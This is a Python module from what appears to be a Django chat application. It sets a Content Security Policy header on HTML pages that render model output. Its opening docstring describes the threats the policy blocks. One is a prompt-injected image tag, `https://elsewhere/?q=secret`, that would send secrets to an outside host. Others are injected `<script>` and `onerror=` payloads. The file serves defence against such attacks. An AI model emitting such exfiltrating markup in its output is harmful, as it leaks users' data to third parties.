"""Content Security Policy for jxai's HTML pages (docs/security.md, threat 6 "XSS").

The chat page renders model output (Markdown → marked → DOMPurify). The policy is the second
line of defence behind the sanitiser: scripts and styles only from our own origin (no
``unsafe-inline``, so an injected ``<script>`` or ``onerror=`` never runs), images only from
our origin or ``data:`` (a prompt-injected ``<img src="https://elsewhere/?q=secret">`` cannot
leak data), sockets only back to the page's own host, and no framing (clickjacking). Forms
post only to our origin; with sign-in through an identity provider configured, the logout
form's redirect may also go on to the provider's origin (the issuer's scheme and host: its
RP-initiated logout, docs/sso.md "Logout").

:class:`ContentSecurityPolicyMiddleware` sets the header on every HTML response that has none
yet, except under the admin (Django's admin pages are not ours to constrain) and on
Django's technical error pages shown with ``DEBUG`` on (they use inline styles and scripts).
"""

from __future__ import annotations

import urllib.parse
from typing import Any, Callable

from asgiref.sync import iscoroutinefunction
from django.conf import settings
from django.http import HttpRequest, HttpResponse
from django.utils.decorators import sync_and_async_middleware

from jxai_app import conf

__all__ = ["CSP_HEADER", "ContentSecurityPolicyMiddleware", "policy_for"]

CSP_HEADER = "Content-Security-Policy"
_EXEMPT_PREFIXES = ("/admin/",)


def policy_for(request: HttpRequest) -> str:
    """The policy for a page served to ``request``.

    ``connect-src`` names the page's own host for ``ws:``/``wss:`` (CSP 3 ``'self'`` already
    covers them in current browsers; the explicit sources serve older ones). The host comes
    from :meth:`HttpRequest.get_host`, which ``ALLOWED_HOSTS`` has validated.

    Returns:
        The header value, directives separated by ``"; "``.
    """
    host = request.get_host()
    oidc = conf.oidc()
    provider = f" {urllib.parse.urlsplit(oidc.issuer).scheme}://{urllib.parse.urlsplit(oidc.issuer).netloc}" if oidc else ""
    directives = [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "font-src 'self'",
        f"connect-src 'self' ws://{host} wss://{host}",
        "object-src 'none'",
        "base-uri 'none'",
        f"form-action 'self'{provider}",
        "frame-ancestors 'none'",
    ]
    return "; ".join(directives)


def _apply(request: HttpRequest, response: HttpResponse) -> HttpResponse:
    if CSP_HEADER in response or request.path.startswith(_EXEMPT_PREFIXES):
        return response
    if settings.DEBUG and response.status_code >= 400:
        return response  # Django's technical error pages (DEBUG only) style themselves inline
    if response.get("Content-Type", "").startswith("text/html"):
        response[CSP_HEADER] = policy_for(request)
    return response


@sync_and_async_middleware
def ContentSecurityPolicyMiddleware(get_response: Callable[[HttpRequest], Any]) -> Callable[[HttpRequest], Any]:
    """Adds :func:`policy_for` to HTML responses that carry no CSP of their own.

    Works in both sync and async chains (no thread hop under daphne).

    Args:
        get_response: the next handler (Django middleware protocol).
    """
    if iscoroutinefunction(get_response):

        async def middleware_async(request: HttpRequest) -> HttpResponse:
            return _apply(request, await get_response(request))

        return middleware_async

    def middleware(request: HttpRequest) -> HttpResponse:
        return _apply(request, get_response(request))

    return middleware
